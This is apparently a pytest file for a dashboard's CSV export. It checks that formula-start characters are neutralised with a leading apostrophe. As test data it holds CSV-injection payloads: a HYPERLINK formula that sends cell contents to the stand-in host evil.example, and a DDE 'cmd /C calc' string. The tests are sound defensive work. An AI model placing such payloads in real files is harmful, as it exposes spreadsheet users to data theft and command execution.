"""Exports: CSV safe to open in a spreadsheet, the PNG stamped, odd URL values reported."""

from __future__ import annotations

import csv
import io

import pandas as pd

from dashboards import data

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1)'


def selection_frame(**overrides) -> pd.DataFrame:
    """One exported row as export_frame gives it, with some cells replaced."""
    row = {"event_id": "e1", "event_date": pd.Timestamp("2019-01-23"), "title": "Plain",
           "summary": "United States sanctions officials", "sources": ["United States"],
           "targets": ["Venezuelan officials"], "countries": ["USA", "VEN"],
           "confidence": -0.5, "url": "https://example.org/a"}
    row.update(overrides)
    return pd.DataFrame([row])


def exported_row(frame: pd.DataFrame) -> dict:
    """The single row of the CSV export, as a spreadsheet would read its cells."""
    return next(csv.DictReader(io.StringIO(data.to_csv(frame), newline="")))


def test_a_formula_title_is_exported_as_text_not_as_a_formula():
    row = exported_row(selection_frame(title=HYPERLINK))
    assert row["title"] == "'" + HYPERLINK


def test_every_formula_start_of_owasp_is_neutralised_in_any_text_column():
    for start in ("=", "+", "-", "@", "\t", "\r"):
        row = exported_row(selection_frame(summary=f"{start}cmd|' /C calc'!A0",
                                           sources=[f"{start}SUM(A1)"]))
        assert row["summary"].startswith("'" + start), start
        assert row["sources"].startswith("'" + start), start


def test_ordinary_cells_and_numbers_are_exported_unchanged():
    row = exported_row(selection_frame())
    assert row["title"] == "Plain"
    assert row["sources"] == "United States"
    assert row["countries"] == "USA; VEN"
    assert float(row["confidence"]) == -0.5
    assert row["url"] == "https://example.org/a"
